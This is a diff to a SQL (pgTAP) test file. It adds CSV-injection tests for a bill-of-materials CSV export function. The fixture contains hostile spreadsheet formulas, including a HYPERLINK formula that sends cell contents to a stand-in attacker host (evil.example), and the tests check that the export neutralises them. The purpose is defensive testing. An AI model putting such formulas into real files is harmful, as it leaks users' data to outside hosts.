@@ -1,7 +1,7 @@
 -- export_bom_csv: RFC 4180 text (header row, CRLF line ends, fields with a comma, a quote, CR or
--- LF quoted with quotes doubled), any version, readers only.
+-- LF quoted with quotes doubled), formula-like text neutralised, any version, readers only.
 begin;
-select plan(12);
+select plan(14);
 
 select tests.create_user('alice');
 select tests.create_user('carol');
@@ -47,6 +47,21 @@ select set_config('t.prd', (public.create_artifact_with_version(current_setting(
   null) -> 'artifact' ->> 'id'), true);
 select throws_ok(format($$ select public.export_bom_csv(%L) $$, current_setting('t.prd')), '22023',
   'artifact is a prd, not a bom: only a BOM exports as CSV', 'only a BOM exports');
+
+-- CSV injection (OWASP): text that a spreadsheet would run as a formula is neutralised
+select set_config('t.evil', (public.create_artifact_with_version(current_setting('t.chat')::uuid, null, 'bom', 'Evil BOM',
+  null, $${"components": [
+    {"name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "quantity": 1, "unit_price": 1, "currency": "USD",
+     "part_number": "+1-555", "manufacturer": "-2+3", "supplier": "@SUM(A1:A9)", "interface_type": "\tI2C",
+     "current": 0.5, "voltage": 3.3},
+    {"name": "Plain, with a comma", "part_number": "\r=1+1", "quantity": 2, "unit_price": 0.5, "currency": "USD",
+     "manufacturer": "-5"}]}$$,
+  null) -> 'artifact' ->> 'id'), true);
+select is(split_part(public.export_bom_csv(current_setting('t.evil')::uuid), e'\r\n', 2),
+  e'1,"''=HYPERLINK(""http://evil.example/?""&A1,""click"")","''+1-555","''-2+3",1,1,USD,1,3.3,0.5,"''\tI2C","''@SUM(A1:A9)",',
+  'cells starting with =, +, -, @ or tab get a leading quote and are quoted; JSON numbers stay numbers');
+select ok(strpos(public.export_bom_csv(current_setting('t.evil')::uuid), e'2,"Plain, with a comma","''\r=1+1","''-5",2,0.5,USD,1.0,,,,,\r\n') > 0,
+  'so does text starting with CR, and text that merely looks like a negative number');
 
 select tests.authenticate_as('carol');
 select is(public.export_bom_csv(current_setting('t.bom')::uuid, 2) is not null, true, 'a viewer exports');
